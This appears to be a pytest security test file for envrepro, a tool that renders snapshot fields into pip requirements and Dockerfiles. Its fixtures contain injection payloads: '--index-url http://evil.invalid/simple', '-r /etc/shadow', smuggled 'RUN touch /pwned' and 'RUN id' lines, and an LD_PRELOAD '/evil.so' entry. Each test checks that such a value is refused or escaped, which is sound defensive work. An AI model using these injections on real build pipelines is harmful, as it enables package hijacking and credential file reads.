"""A hostile snapshot cannot add a pip option to the requirements or an instruction to the Dockerfile.

First wall: loading refuses it (exit 2 naming the field). Second wall: a value that reaches rendering or
lock writing anyway (a model built without validation) is escaped or refused, never written as syntax.
"""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import pytest
from dockerfile_parse import DockerfileParser
from pydantic import BaseModel

from envrepro import snapshot
from envrepro.errors import EnvreproError
from envrepro.lock import HostEnvironment, compute_lock
from envrepro.proc import Completed
from envrepro.render import render
from envrepro.resolve import resolve
from envrepro.target import Lock, Target

CASES = Path(__file__).parent / "cases"
CPU = CASES / "tf221-cpu-snapshot" / "envrepro.lock.json"
TEST_BASE = "envrepro-test/python:3.11-bookworm"
LOCK = Lock(text="six==1.17.0 \\\n    --hash=sha256:" + "0" * 64 + "\n", requirements=())
INDEX_INJECTION = "2.21.0\n--index-url http://evil.invalid/simple"
RUN_INJECTION = "\nRUN touch /pwned"


def hostile_file(tmp_path: Path, where: tuple[str | int, ...], value: str) -> Path:
    doc: dict[str, Any] = json.loads(CPU.read_text(encoding="utf-8"))
    node: Any = doc
    for key in where[:-1]:
        node = node[key]
    node[where[-1]] = value
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(doc), encoding="utf-8")
    return path


def tensorflow_index(doc_path: Path = CPU) -> int:
    names = [d["name"] for d in json.loads(doc_path.read_text())["environment"]["distributions"]]
    return names.index("tensorflow_cpu")


@pytest.mark.parametrize(
    ("where", "value"),
    [
        (("environment", "distributions", tensorflow_index(), "version"), INDEX_INJECTION),
        (("environment", "distributions", 0, "name"), "absl-py\n-r /etc/shadow"),
        (("environment", "tensorflow", "version"), "2.21.0" + RUN_INJECTION),
        (("environment", "python", "version"), "3.11.7" + RUN_INJECTION),
    ],
)
@pytest.mark.parametrize("command", ["show", "build"])
def test_a_line_break_in_a_snapshot_field_is_exit_2_naming_the_field(  # type: ignore[no-untyped-def]
    cli, tmp_path: Path, where: tuple[str | int, ...], value: str, command: str
) -> None:
    path = hostile_file(tmp_path, where, value)
    out = tmp_path / "build"
    argv = {
        "show": ["show", str(path)],
        "build": ["build", "--snapshot", str(path), "--render-only", "--out", str(out)],
    }[command]
    result = cli(*argv)
    pointer = "/" + "/".join(str(part) for part in where)
    assert result.exit_code == 2
    assert len(result.error_lines) == 1
    assert f"{pointer}: " in result.error_lines[0]
    assert not out.exists()


# --- the second wall: values that were never validated ---------------------------------------------------


def unvalidated(model: BaseModel, **changes: object) -> Any:
    """A copy of `model` with `changes`, built with model_construct: no validation at all."""
    return type(model).model_construct(**{**dict(model), **changes})


def snapshot_with(*, tf_version: str | None = None, dist_version: str | None = None) -> snapshot.Snapshot:
    snap = snapshot.load(CPU)
    env = snap.environment
    if tf_version is not None:
        env = unvalidated(env, tensorflow=unvalidated(env.tensorflow, version=tf_version))
    if dist_version is not None:
        dists = list(env.distributions)
        index = next(n for n, d in enumerate(dists) if d.key == "tensorflow-cpu")
        dists[index] = unvalidated(dists[index], version=dist_version)
        env = unvalidated(env, distributions=tuple(dists))
    return unvalidated(snap, environment=env)  # type: ignore[no-any-return]


class RecordingPipCompile:
    """Stands in for pip-compile: keeps requirements.in, writes a one-pin lock."""

    def __init__(self) -> None:
        self.inputs: list[str] = []

    def __call__(self, command: Any, **_: Any) -> Completed:
        self.inputs.append(Path(command[-1]).read_text(encoding="utf-8"))
        Path(command[command.index("--output-file") + 1]).write_text(LOCK.text, encoding="utf-8")
        return Completed(command=tuple(map(str, command)), returncode=0, stdout="", stderr="")


def test_an_unvalidated_version_with_a_pip_option_never_reaches_requirements_in(tmp_path: Path) -> None:
    target = resolve(snapshot_with(dist_version=INDEX_INJECTION), target="cpu")
    fake = RecordingPipCompile()
    with pytest.raises(EnvreproError, match="refusing to write") as info:
        compute_lock(target, tmp_path, runner=fake, host=HostEnvironment((3, 11), "linux", "x86_64"))
    assert "\n" not in str(info.value)
    written = "".join(fake.inputs)
    assert not [line for line in written.splitlines() if line.lstrip().startswith("-")]


def instructions(text: str) -> list[tuple[str, str]]:
    parser = DockerfileParser(fileobj=io.BytesIO(text.encode()))
    return [(item["instruction"], item["value"]) for item in parser.structure]


def dockerfile(target: Target) -> str:
    return dict(render(target, LOCK).files)["Dockerfile"].decode()


@pytest.mark.parametrize(
    "build",
    [
        lambda: resolve(snapshot_with(tf_version="2.21.0" + RUN_INJECTION)),
        lambda: resolve(snapshot_with(tf_version="2.21.0\\" + RUN_INJECTION)),
        lambda: resolve(snapshot_with(tf_version='2.21.0"' + RUN_INJECTION)),
    ],
    ids=["label", "label-backslash", "label-quote"],
)
def test_an_unvalidated_tensorflow_version_stays_inside_its_label(build: Any) -> None:
    target = build()
    text = dockerfile(target)
    benign = dockerfile(resolve(snapshot.load(CPU)))
    assert [kind for kind, _ in instructions(text)] == [kind for kind, _ in instructions(benign)]
    assert "RUN touch" not in [line[:9] for line in text.splitlines()]
    labels = [value for kind, value in instructions(text) if kind == "LABEL"]
    assert "/pwned" in labels[-1]  # the final image's labels (the builder stage has its own)


def test_an_unvalidated_python_version_stays_inside_the_header_comment_and_label() -> None:
    snap = snapshot.load(CPU)
    env = unvalidated(
        snap.environment, python=unvalidated(snap.environment.python, version="3.11.7" + RUN_INJECTION)
    )
    target = resolve(unvalidated(snap, environment=env), base_image=TEST_BASE)
    text = dockerfile(target)
    assert [kind for kind, _ in instructions(text)] == [
        kind for kind, _ in instructions(dockerfile(resolve(snap, base_image=TEST_BASE)))
    ]
    assert not any(line.startswith("RUN touch") for line in text.splitlines())


@pytest.mark.parametrize(
    "changes",
    [
        {"base_image": "python:3.11" + RUN_INJECTION},
        {"base_image": "python:3.11 AS evil"},
        {"env": (("TF_X=1 LD_PRELOAD", "/evil.so"),)},
        {"env": (("TF_CPP_MIN_LOG_LEVEL\nRUN id", "2"),)},
        {"labels": (("a\nRUN id", "x"),)},
        {"python_executable": "python3 -c 'import os'"},
    ],
    ids=["from-newline", "from-space", "env-name-equals", "env-name-newline", "label-key", "python"],
)
def test_values_that_cannot_be_written_safely_unquoted_are_refused(changes: dict[str, object]) -> None:
    target = resolve(snapshot.load(CPU))
    hostile = Target(**{**target.__dict__, **changes})
    with pytest.raises(EnvreproError, match="refusing to write"):
        dockerfile(hostile)


def test_the_lock_header_cannot_gain_a_pip_option_from_the_python_version(tmp_path: Path) -> None:
    snap = snapshot.load(CPU)
    target = resolve(snap, target="cpu")
    hostile = Target(**{**target.__dict__, "python_version": "3.11\n--index-url http://evil.invalid/simple"})
    lock = compute_lock(
        hostile, tmp_path, runner=RecordingPipCompile(), host=HostEnvironment((3, 11), "linux", "x86_64")
    )
    assert not [line for line in lock.text.splitlines() if line.startswith("-")]
    assert "# Pinned and hashed by envrepro (pip-tools) for Python 3.11\\n--index-url" in lock.text


@pytest.mark.parametrize("case", ["tf221-gpu-snapshot", "tf212-gpu-snapshot"])
def test_show_prints_a_gpu_snapshot_whose_sources_look_like_markup(cli, case: str) -> None:  # type: ignore[no-untyped-def]
    result = cli("show", str(CASES / case / "envrepro.lock.json"))
    assert (result.exit_code, result.error_lines) == (0, [])
    assert "driver" in result.stdout


def test_show_prints_snapshot_text_literally_not_as_markup(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = hostile_file(
        tmp_path, ("environment", "cpu", "model"), "[/]EPYC [link=http://evil.invalid]x[/link]"
    )
    result = cli("show", str(path))
    assert result.exit_code == 0
    assert "[link=http://evil.invalid]" in result.stdout
